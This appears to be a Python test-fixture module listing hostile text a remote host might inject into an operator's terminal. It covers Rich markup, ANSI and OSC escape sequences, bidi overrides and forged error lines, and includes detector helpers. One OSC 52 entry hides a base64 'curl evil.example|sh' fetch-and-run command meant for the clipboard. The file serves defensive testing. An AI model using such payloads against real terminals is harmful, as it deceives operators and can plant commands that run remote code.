"""What a hostile host (or bucket writer) puts in the text the operator sees: Rich markup, terminal escape
sequences, bidi overrides and a forged error line. Shared by tests/unit/test_shown.py (units) and the hostile host
(tests/hostile_host.py, over real SSH)."""

from __future__ import annotations

FORGED = "topdeck: error: web-2: HOST KEY CHANGED"

TEXT_ATTACKS = {
    "markup_close_tag": "[/]",
    "markup_link": "[link=https://evil.example]release notes[/link]",
    "markup_style": "[bold red]FAILED[/bold red]",
    "cursor_up": "\x1b[3A",
    "erase_line": "\x1b[2K",
    "conceal": "\x1b[8mhidden\x1b[0m",
    "osc52_clipboard": "\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGV8c2g=\x07",
    "osc8_link": "\x1b]8;;https://evil.example\x1b\\ok\x1b]8;;\x1b\\",
    "c1_csi": "\x9b2J",
    "bidi_override": "abc\u202efdp.exe\u202c",
    "bidi_isolate": "\u2066rtl\u2069",
    "forged_error_line": f"ok\n{FORGED}",
    "line_separator": f"ok\u2028{FORGED}",
}
ALL = " ".join(TEXT_ATTACKS.values())  # every attack in one value


def raw_controls(text: str) -> list[str]:
    """The characters of `text` that would act on a terminal or reorder it (a line end excepted)."""
    return sorted({c for c in text if not c.isprintable() and c != "\n"})


def forged_lines(text: str) -> list[str]:
    return [line for line in text.splitlines() if line.startswith(FORGED)]
